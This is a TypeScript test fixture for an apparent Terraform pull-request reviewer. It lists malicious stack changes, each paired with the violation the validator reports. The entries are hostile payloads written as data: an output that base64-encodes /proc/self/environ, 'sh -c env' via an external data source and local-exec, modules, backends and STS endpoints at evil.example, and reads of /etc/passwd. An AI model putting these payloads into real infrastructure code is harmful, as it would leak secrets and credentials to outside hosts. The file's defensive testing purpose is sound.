/** Changes that a pull request could make to an honest stack's JSON, each with the violation that names it. */
export const MALICIOUS: Readonly<Record<string, { readonly change: (json: any) => void; readonly violation: string }>> = {
  'an output that carries the environment out': {
    change: ({ output }) => {
      output.stolen = { value: '${base64encode(file("/proc/self/environ"))}' };
    },
    violation: 'output.stolen.value calls the function file: "${base64encode(file(\\"/proc/self/environ\\"))}".',
  },
  'a Lambda function that is called': {
    change: ({ data }) => {
      data.aws_lambda_invocation = { x: { function_name: 'f', input: '{}' } };
    },
    violation: 'data.aws_lambda_invocation is a type of data source that nobody has allowed (src/operations/review/allowed/data-sources.ts).',
  },
  'a secret': {
    change: ({ data }) => {
      data.aws_secretsmanager_secret_version = { x: { secret_id: 's' } };
    },
    violation: 'data.aws_secretsmanager_secret_version is a type of data source that nobody has allowed (src/operations/review/allowed/data-sources.ts).',
  },
  'a token of the registry': {
    change: ({ data }) => {
      data.aws_ecr_authorization_token = { x: {} };
    },
    violation: 'data.aws_ecr_authorization_token is a type of data source that nobody has allowed (src/operations/review/allowed/data-sources.ts).',
  },
  'an object in S3': {
    change: ({ data }) => {
      data.aws_s3_object = { x: { bucket: 'b', key: 'k' } };
    },
    violation: 'data.aws_s3_object is a type of data source that nobody has allowed (src/operations/review/allowed/data-sources.ts).',
  },
  'a parameter of the account\'s own': {
    change: ({ data }) => {
      data.aws_ssm_parameter.x = { name: '/prod/password' };
    },
    violation: 'data.aws_ssm_parameter.x.name must be "/aws/service/ecs/optimized-ami/amazon-linux-2023/recommended/image_id" or'
      + ' "/aws/service/ecs/optimized-ami/amazon-linux-2023/arm64/recommended/image_id", it is "/prod/password".',
  },
  'a parameter that is decrypted': {
    change: ({ data }) => {
      Object.values<any>(data.aws_ssm_parameter)[0].with_decryption = true;
    },
    violation: 'is not allowed (allowed: depends_on, lifecycle, name).',
  },
  'external data': {
    change: ({ data }) => {
      data.external = { x: { program: ['sh', '-c', 'env'] } };
    },
    violation: 'data.external is a type of data source that nobody has allowed (src/operations/review/allowed/data-sources.ts).',
  },
  'a provisioner': {
    change: ({ resource }) => {
      Object.values<any>(resource.aws_security_group)[0].provisioner = [{ 'local-exec': { command: 'env' } }];
    },
    violation: '.provisioner is not allowed, it is [{"local-exec":{"command":"env"}}].',
  },
  'a provisioner inside a block': {
    change: ({ resource }) => {
      Object.values<any>(resource.aws_launch_template)[0].metadata_options.provisioner = { 'local-exec': { command: 'env' } };
    },
    violation: '.metadata_options.provisioner is not allowed, it is {"local-exec":{"command":"env"}}.',
  },
  'a connection': {
    change: ({ resource }) => {
      Object.values<any>(resource.aws_security_group)[0].connection = { host: 'evil.example' };
    },
    violation: '.connection is not allowed, it is {"host":"evil.example"}.',
  },
  'a module': {
    change: (json) => {
      json.module = { x: { source: 'git::https://evil.example/x' } };
    },
    violation: 'module is a section that nobody has allowed, it is {"x":{"source":"git::https://evil.example/x"}}.',
  },
  'an import': {
    change: (json) => {
      json.import = [{ to: 'aws_iam_role.x', id: 'admin' }];
    },
    violation: 'import is a section that nobody has allowed, it is [{"to":"aws_iam_role.x","id":"admin"}].',
  },
  'a foreign provider': {
    change: (json) => {
      json.terraform.required_providers.evil = { source: 'evil.example/x/evil' };
    },
    violation: 'terraform.required_providers must be {"aws":{"source":"aws","version":"5.100.0"}}, it is'
      + ' {"aws":{"source":"aws","version":"5.100.0"},"evil":{"source":"evil.example/x/evil"}}.',
  },
  'another version of the provider': {
    change: (json) => {
      json.terraform.required_providers.aws.version = '99.0.0';
    },
    violation: 'it is {"aws":{"source":"aws","version":"99.0.0"}}.',
  },
  'a resource of a foreign provider': {
    change: ({ resource }) => {
      resource.null_resource = { x: {} };
    },
    violation: 'resource.null_resource is a type of resource that nobody has allowed (src/operations/review/allowed/resources.ts).',
  },
  'another backend': {
    change: (json) => {
      json.terraform.backend = { http: { address: 'https://evil.example' } };
    },
    violation: 'it is {"http":{"address":"https://evil.example"}}.',
  },
  'another key of the backend': {
    change: (json) => {
      json.terraform.backend = { local: { path: '/etc/passwd' } };
    },
    violation: 'it is {"local":{"path":"/etc/passwd"}}.',
  },
  'Terraform\'s cloud': {
    change: (json) => {
      json.terraform.cloud = { organization: 'evil' };
    },
    violation: 'terraform.cloud is not allowed (allowed: backend, required_providers, required_version).',
  },
  'an endpoint': {
    change: ({ provider }) => {
      provider.aws[0].endpoints = [{ sts: 'https://evil.example' }];
    },
    violation: 'provider.aws[0].endpoints is not allowed (allowed: region, allowed_account_ids, default_tags).',
  },
  'an assumed role': {
    change: ({ provider }) => {
      provider.aws[0].assume_role = [{ role_arn: 'arn:aws:iam::123456789012:role/admin' }];
    },
    violation: 'provider.aws[0].assume_role is not allowed (allowed: region, allowed_account_ids, default_tags).',
  },
  'a profile': {
    change: ({ provider }) => {
      provider.aws[0].profile = 'admin';
    },
    violation: 'provider.aws[0].profile is not allowed (allowed: region, allowed_account_ids, default_tags).',
  },
  'a Region that is another\'s address': {
    change: ({ provider }) => {
      provider.aws[0].region = 'evil.example/#';
    },
    violation: 'provider.aws[0].region must be a Region such as ap-southeast-1, it is "evil.example/#".',
  },
  'a second provider': {
    change: ({ provider }) => {
      provider.aws.push({ alias: 'other', region: 'eu-west-1' });
    },
    violation: 'provider must have aws alone, once, it is',
  },
  'a function inside a string inside a list': {
    change: ({ resource }) => {
      Object.values<any>(resource.aws_launch_template)[0].vpc_security_group_ids.push('${join("", ["a", "b${file("/etc/hostname")}"])}');
    },
    violation: '.vpc_security_group_ids[1] calls the function file: "${join(\\"\\", [\\"a\\", \\"b${file(\\"/etc/hostname\\")}\\"])}".',
  },
  'a function in a key': {
    change: ({ output }) => {
      output.stolen = { value: { '${file("/etc/hostname")}': 1 } };
    },
    violation: 'output.stolen.value."${file(\\"/etc/hostname\\")}" calls the function file: "${file(\\"/etc/hostname\\")}".',
  },
  'a function in a comment': {
    change: ({ output }) => {
      output['//'] = '${file("/etc/hostname")}';
    },
    violation: 'output.// calls the function file: "${file(\\"/etc/hostname\\")}".',
  },
  'a data source inside a check': {
    change: ({ check }) => {
      check.x = { data: { http: { x: { url: 'https://evil.example' } } }, assert: [{ condition: true, error_message: 'no' }] };
    },
    violation: 'check.x.data is not allowed (allowed: assert).',
  },
  'a dependency on what is not allowed': {
    change: ({ resource }) => {
      Object.values<any>(resource.aws_security_group)[0].depends_on = ['module.x'];
    },
    violation: '.depends_on must be references to resources and data sources that are allowed, it is ["module.x"].',
  },
  'a replacement that is triggered': {
    change: ({ resource }) => {
      Object.values<any>(resource.aws_security_group)[0].lifecycle = { replace_triggered_by: ['${file("x")}'] };
    },
    violation: '.lifecycle is not allowed as it is (lifecycle.replace_triggered_by is not allowed',
  },
  'many of a resource': {
    change: ({ resource }) => {
      Object.values<any>(resource.aws_security_group)[0].for_each = '${toset(["a"])}';
    },
    violation: '.for_each is not allowed, it is "${toset([\\"a\\"])}".',
  },
  'a variable of a type that is an expression': {
    change: ({ variable }) => {
      variable.x = { type: 'object({a = string})' };
    },
    violation: 'variable.x.type must be "string" or "number" or "bool", it is "object({a = string})".',
  },
  'the folder of the run': {
    change: ({ output }) => {
      output.stolen = { value: '${path.root}' };
    },
    violation: 'output.stolen.value refers to path: "${path.root}".',
  },
  'sections as a list': {
    change: (json) => {
      json.data = [json.data];
    },
    violation: 'data must be an object, it is [{',
  },
};
